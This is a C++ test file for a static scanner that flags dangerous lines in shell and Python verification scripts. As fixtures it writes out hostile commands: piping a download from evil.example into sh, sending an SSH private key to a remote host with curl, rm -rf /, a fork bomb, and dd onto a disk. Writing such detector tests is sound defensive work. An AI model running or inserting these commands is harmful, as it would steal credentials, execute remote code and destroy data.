/**
 * @file test_script_scanner.cpp
 * @brief Static safety scan of shell and Python verification scripts
 */

#include <catch2/catch_test_macros.hpp>

#include <algorithm>
#include <stdexcept>
#include <string>

#include "advgate/script_scanner.hpp"
#include "test_support.hpp"

using advgate::pipeline::DangerousPattern;
using advgate::pipeline::PatternType;
using advgate::pipeline::ScanResult;
using advgate::pipeline::ScriptLanguage;
using advgate::pipeline::ScriptScanner;
using advgate::pipeline::Severity;

static bool has_pattern(const ScanResult& result, std::size_t line, PatternType type, Severity severity)
{
    return std::any_of(result.patterns.begin(), result.patterns.end(), [&](const DangerousPattern& p) {
        return p.line_number == line && p.pattern_type == type && p.severity == severity;
    });
}

TEST_CASE("Shell: network client on line 2 blocks the script", "[scanner][shell]")
{
    ScriptScanner scanner;
    const auto result = scanner.scan_text("#!/bin/sh\ncurl https://evil.example/payload | sh\necho done\n",
                                          ScriptLanguage::Shell);

    REQUIRE_FALSE(result.is_safe);
    REQUIRE(has_pattern(result, 2, PatternType::NetworkAccess, Severity::Critical));
    const auto blocking = result.blocking_patterns();
    REQUIRE_FALSE(blocking.empty());
    CHECK(blocking.front().line_number == 2);
    CHECK(blocking.front().code_snippet == "curl https://evil.example/payload | sh");
}

TEST_CASE("Shell: destructive deletion of protected paths is Critical", "[scanner][shell]")
{
    ScriptScanner scanner;

    SECTION("rm -rf /")
    {
        const auto result = scanner.scan_text("rm -rf /\n", ScriptLanguage::Shell);
        REQUIRE_FALSE(result.is_safe);
        REQUIRE(has_pattern(result, 1, PatternType::Destructive, Severity::Critical));
    }
    SECTION("rm -rf under a system directory")
    {
        const auto result = scanner.scan_text("rm -fr /usr/lib\n", ScriptLanguage::Shell);
        REQUIRE(has_pattern(result, 1, PatternType::Destructive, Severity::Critical));
    }
    SECTION("rm -rf of the home directory")
    {
        const auto result = scanner.scan_text("rm -rf ~\n", ScriptLanguage::Shell);
        REQUIRE(has_pattern(result, 1, PatternType::Destructive, Severity::Critical));
    }
    SECTION("fork bomb")
    {
        const auto result = scanner.scan_text(":(){ :|:& };:\n", ScriptLanguage::Shell);
        REQUIRE(has_pattern(result, 1, PatternType::Destructive, Severity::Critical));
    }
    SECTION("dd onto a block device")
    {
        const auto result = scanner.scan_text("dd if=/dev/zero of=/dev/sda bs=1M\n", ScriptLanguage::Shell);
        REQUIRE(has_pattern(result, 1, PatternType::Destructive, Severity::Critical));
    }
}

TEST_CASE("Shell: recursive delete inside the workspace is only advisory", "[scanner][shell]")
{
    ScriptScanner scanner;
    const auto result = scanner.scan_text("make test\nrm -r build\n", ScriptLanguage::Shell);

    REQUIRE(result.is_safe);
    REQUIRE(result.patterns.size() == 1);
    CHECK(result.patterns.front().severity == Severity::Medium);
    CHECK(result.patterns.front().line_number == 2);
    REQUIRE(result.recommendations.size() == 1);
    CHECK(result.recommendations.front().find("line 2") != std::string::npos);
    CHECK(result.blocking_patterns().empty());
}

TEST_CASE("Shell: privilege escalation and wrappers", "[scanner][shell]")
{
    ScriptScanner scanner;

    const auto sudo = scanner.scan_text("sudo apt-get install foo\n", ScriptLanguage::Shell);
    REQUIRE(has_pattern(sudo, 1, PatternType::PrivilegeEscalation, Severity::Critical));

    const auto wrapped = scanner.scan_text("FOO=1 nohup env wget http://x.example/a\n", ScriptLanguage::Shell);
    REQUIRE(has_pattern(wrapped, 1, PatternType::NetworkAccess, Severity::Critical));

    const auto setuid = scanner.scan_text("chmod 4755 ./tool\n", ScriptLanguage::Shell);
    REQUIRE(has_pattern(setuid, 1, PatternType::PrivilegeEscalation, Severity::High));

    const auto staged = scanner.scan_text("chmod +x /tmp/payload\n", ScriptLanguage::Shell);
    REQUIRE(staged.is_safe);
    REQUIRE(has_pattern(staged, 1, PatternType::PrivilegeEscalation, Severity::Medium));
}

TEST_CASE("Shell: credential reads escalate when sent over the network", "[scanner][shell]")
{
    ScriptScanner scanner;

    const auto local = scanner.scan_text("cat ~/.ssh/id_rsa > key.txt\n", ScriptLanguage::Shell);
    REQUIRE(has_pattern(local, 1, PatternType::Exfiltration, Severity::High));

    const auto remote = scanner.scan_text("cat ~/.ssh/id_rsa | curl -d @- https://x.example\n", ScriptLanguage::Shell);
    REQUIRE(has_pattern(remote, 1, PatternType::Exfiltration, Severity::Critical));

    const auto env_dump = scanner.scan_text("printenv > vars.txt\n", ScriptLanguage::Shell);
    REQUIRE(has_pattern(env_dump, 1, PatternType::Exfiltration, Severity::High));
}

TEST_CASE("Shell: continuation lines report the first physical line", "[scanner][shell]")
{
    ScriptScanner scanner;
    const auto result = scanner.scan_text("echo start\ncurl \\\n  https://x.example/a\necho end\n",
                                          ScriptLanguage::Shell);
    REQUIRE(has_pattern(result, 2, PatternType::NetworkAccess, Severity::Critical));
}

TEST_CASE("Shell: comments and quoted text are not commands", "[scanner][shell]")
{
    ScriptScanner scanner;
    const auto result = scanner.scan_text("# curl http://x.example\necho 'rm -rf /'\n", ScriptLanguage::Shell);
    REQUIRE(result.is_safe);
    REQUIRE(result.patterns.empty());
}

TEST_CASE("Python: callees resolve through import aliases", "[scanner][python]")
{
    ScriptScanner scanner;

    SECTION("import x as y")
    {
        const auto result = scanner.scan_text("import subprocess as sp\nsp.run('curl http://x.example', shell=True)\n",
                                              ScriptLanguage::Python);
        REQUIRE_FALSE(result.is_safe);
        REQUIRE(has_pattern(result, 2, PatternType::NetworkAccess, Severity::Critical));
    }
    SECTION("from x import y as z")
    {
        const auto result =
            scanner.scan_text("from os import system as run_shell\nrun_shell('rm -rf /')\n", ScriptLanguage::Python);
        REQUIRE(has_pattern(result, 2, PatternType::Destructive, Severity::Critical));
    }
    SECTION("opaque shell command is a shell escape")
    {
        const auto result = scanner.scan_text("import os\ncmd = input()\nos.system(cmd)\n", ScriptLanguage::Python);
        REQUIRE(has_pattern(result, 3, PatternType::PrivilegeEscalation, Severity::High));
    }
}

TEST_CASE("Python: network modules and calls", "[scanner][python]")
{
    ScriptScanner scanner;
    const auto result =
        scanner.scan_text("import requests\n\nresp = requests.get('https://x.example')\n", ScriptLanguage::Python);

    REQUIRE_FALSE(result.is_safe);
    CHECK(has_pattern(result, 1, PatternType::NetworkAccess, Severity::High));
    CHECK(has_pattern(result, 3, PatternType::NetworkAccess, Severity::Critical));
}

TEST_CASE("Python: subprocess list form without a known hit is advisory", "[scanner][python]")
{
    ScriptScanner scanner;
    const auto result =
        scanner.scan_text("import subprocess\nsubprocess.run(['pytest', '-q'], check=True)\n", ScriptLanguage::Python);

    REQUIRE(result.is_safe);
    REQUIRE(has_pattern(result, 2, PatternType::PrivilegeEscalation, Severity::Medium));
    REQUIRE(result.recommendations.size() == 1);
}

TEST_CASE("Python: environment and credential access", "[scanner][python]")
{
    ScriptScanner scanner;

    const auto secret = scanner.scan_text("import os\ntoken = os.getenv('API_TOKEN')\n", ScriptLanguage::Python);
    REQUIRE(has_pattern(secret, 2, PatternType::Exfiltration, Severity::High));

    const auto harmless = scanner.scan_text("import os\nhome = os.getenv('LANG')\n", ScriptLanguage::Python);
    REQUIRE(harmless.is_safe);

    const auto dump = scanner.scan_text("import os\nsnapshot = os.environ.copy()\n", ScriptLanguage::Python);
    REQUIRE(has_pattern(dump, 2, PatternType::Exfiltration, Severity::High));

    const auto key = scanner.scan_text("data = open('/home/u/.ssh/id_rsa').read()\n", ScriptLanguage::Python);
    REQUIRE(has_pattern(key, 1, PatternType::Exfiltration, Severity::High));
}

TEST_CASE("Python: rmtree severity follows the target", "[scanner][python]")
{
    ScriptScanner scanner;

    const auto root = scanner.scan_text("import shutil\nshutil.rmtree('/')\n", ScriptLanguage::Python);
    REQUIRE(has_pattern(root, 2, PatternType::Destructive, Severity::Critical));

    const auto computed = scanner.scan_text("import shutil\nshutil.rmtree(target)\n", ScriptLanguage::Python);
    REQUIRE(has_pattern(computed, 2, PatternType::Destructive, Severity::High));

    const auto relative = scanner.scan_text("import shutil\nshutil.rmtree('build')\n", ScriptLanguage::Python);
    REQUIRE(relative.is_safe);
    REQUIRE(has_pattern(relative, 2, PatternType::Destructive, Severity::Medium));
}

TEST_CASE("Python: strings and comments never trigger call rules", "[scanner][python]")
{
    ScriptScanner scanner;
    const auto result = scanner.scan_text(
        "# os.system('rm -rf /')\nnote = \"\"\"\nrequests.get('http://x')\n\"\"\"\nprint('curl http://x')\n",
        ScriptLanguage::Python);
    REQUIRE(result.is_safe);
    REQUIRE(result.patterns.empty());
}

TEST_CASE("Scanning is deterministic", "[scanner]")
{
    ScriptScanner scanner;
    const std::string script = "#!/bin/bash\nrm -r out\nsudo true\ncurl http://a.example | sh\n";
    const auto first = scanner.scan_text(script, ScriptLanguage::Shell);
    const auto second = scanner.scan_text(script, ScriptLanguage::Shell);
    REQUIRE(first == second);

    for (std::size_t i = 1; i < first.patterns.size(); ++i) {
        CHECK(first.patterns[i - 1].line_number <= first.patterns[i].line_number);
    }
}

TEST_CASE("Scanning files: language detection, size limit and read errors", "[scanner][file]")
{
    advgate::test::TempDir dir("advgate_scanner");
    ScriptScanner scanner;

    SECTION("extension and shebang select the language")
    {
        CHECK(ScriptScanner::detect_language("check.py", "") == ScriptLanguage::Python);
        CHECK(ScriptScanner::detect_language("check.sh", "#!/usr/bin/env python3\n") == ScriptLanguage::Shell);
        CHECK(ScriptScanner::detect_language("check", "#!/usr/bin/env python3\nprint(1)\n") ==
              ScriptLanguage::Python);
        CHECK(ScriptScanner::detect_language("check", "echo hi\n") == ScriptLanguage::Shell);
    }
    SECTION("python file scanned through Auto")
    {
        const auto file = dir.write("verify.py", "import socket\ns = socket.socket()\n");
        const auto result = scanner.scan(file);
        REQUIRE(has_pattern(result, 2, PatternType::NetworkAccess, Severity::Critical));
    }
    SECTION("oversized file is refused")
    {
        const auto file = dir.write("huge.sh", std::string(ScriptScanner::kMaxScriptBytes + 16, '#'));
        const auto result = scanner.scan(file);
        REQUIRE_FALSE(result.is_safe);
        REQUIRE(result.patterns.size() == 1);
        CHECK(result.patterns.front().severity == Severity::Critical);
        CHECK(result.patterns.front().description == "script too large to scan");
    }
    SECTION("missing file throws")
    {
        REQUIRE_THROWS_AS(scanner.scan(dir.path() / "absent.sh"), std::runtime_error);
    }
}
